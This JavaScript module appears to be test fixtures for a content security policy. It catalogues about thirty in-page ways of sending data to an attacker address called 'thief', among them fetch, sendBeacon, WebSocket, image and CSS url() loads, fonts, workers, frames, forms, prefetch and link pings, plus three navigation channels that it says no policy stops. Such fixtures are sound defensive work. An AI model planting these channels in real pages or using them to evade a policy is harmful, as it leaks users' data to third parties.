// Every way that is known of getting data out of a page, each as a function
// that runs in the page and tries to tell `thief` (an address that ends with a
// slash) something. A promise that is returned is waited for.

/** What the content security policy has to stop. */
export const LEAKS = {
  "fetch": (thief) => fetch(`${thief}x`, { mode: "no-cors" }),
  "fetch that outlives the page": (thief) => fetch(`${thief}x`, { method: "POST", mode: "no-cors", keepalive: true, body: "pay" }),
  "XMLHttpRequest": (thief) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${thief}x`);
    request.send();
  },
  "beacon": (thief) => { navigator.sendBeacon(`${thief}x`, "pay"); },
  "WebSocket": (thief) => { new WebSocket(`${thief.replace("http", "ws")}x`); },
  "EventSource": (thief) => { new EventSource(`${thief}x`); },
  "image": (thief) => { new Image().src = `${thief}x`; },
  "image in a set": (thief) => { Object.assign(new Image(), { srcset: `${thief}x 2x`, sizes: "100vw" }); },
  "picture of an input": (thief) => {
    const input = document.createElement("input");
    Object.assign(input, { type: "image", src: `${thief}x` });
    document.body.append(input);
  },
  "background of an element": (thief) => { document.body.style.backgroundImage = `url(${thief}x)`; },
  "cursor": (thief) => {
    document.body.style.cursor = `url(${thief}x), auto`;
    document.body.style.listStyleImage = `url(${thief}x)`;
  },
  "style element": (thief) => {
    const style = document.createElement("style");
    style.textContent = `body { background: url(${thief}x) }`;
    document.head.append(style);
  },
  "style sheet": (thief) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "stylesheet", href: `${thief}x.css` });
    document.head.append(link);
  },
  "font": (thief) => new FontFace("Thief", `url(${thief}x.woff2)`).load(),
  "script": (thief) => {
    const script = document.createElement("script");
    script.src = `${thief}x.js`;
    document.head.append(script);
  },
  "worker": (thief) => { new Worker(URL.createObjectURL(new Blob([`fetch("${thief}x", { mode: "no-cors" })`]))); },
  "frame": (thief) => {
    const frame = document.createElement("iframe");
    frame.src = `${thief}x`;
    document.body.append(frame);
  },
  "frame with a page of its own": (thief) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", `<img src="${thief}x">`);
    document.body.append(frame);
  },
  "object": (thief) => {
    const element = document.createElement("object");
    element.data = `${thief}x.svg`;
    document.body.append(element);
  },
  "embed": (thief) => {
    const element = document.createElement("embed");
    element.src = `${thief}x.svg`;
    document.body.append(element);
  },
  "video": (thief) => {
    const element = document.createElement("video");
    element.src = `${thief}x.mp4`;
    document.body.append(element);
    element.load();
  },
  "poster": (thief) => {
    const element = document.createElement("video");
    element.poster = `${thief}x.png`;
    document.body.append(element);
  },
  "audio": (thief) => { new Audio(`${thief}x.mp3`).load(); },
  "picture in SVG": (thief) => {
    const namespace = "http://www.w3.org/2000/svg";
    const svg = document.createElementNS(namespace, "svg");
    const image = document.createElementNS(namespace, "image");
    image.setAttribute("href", `${thief}x.png`);
    svg.append(image);
    document.body.append(svg);
  },
  "form": (thief) => {
    const frame = document.createElement("iframe");
    frame.name = "thief";
    const form = document.createElement("form");
    Object.assign(form, { action: `${thief}x`, method: "post", target: "thief" });
    document.body.append(frame, form);
    form.submit();
  },
  "preload": (thief) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "preload", as: "image", href: `${thief}x.png` });
    document.head.append(link);
  },
  "prefetch": (thief) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "prefetch", href: `${thief}x` });
    document.head.append(link);
  },
  "preloaded module": (thief) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "modulepreload", href: `${thief}x.js` });
    document.head.append(link);
  },
  "text track": (thief) => {
    const video = document.createElement("video");
    const track = document.createElement("track");
    Object.assign(track, { kind: "captions", src: `${thief}x.vtt`, default: true });
    video.append(track);
    video.setAttribute("crossorigin", "anonymous");
    document.body.append(video);
    track.track.mode = "showing";
  },
  "ping of a link": (thief) => {
    const link = document.createElement("a");
    Object.assign(link, { href: "#start", ping: `${thief}x` });
    document.body.append(link);
    link.click();
  },
};

/** What no policy stops: going to another address. The sources have none of it. */
export const NAVIGATIONS = {
  "address": (thief) => { location.href = `${thief}x`; },
  "link": (thief) => {
    const link = document.createElement("a");
    link.href = `${thief}x`;
    document.body.append(link);
    link.click();
  },
  "window": (thief) => { window.open(`${thief}x`); },
};
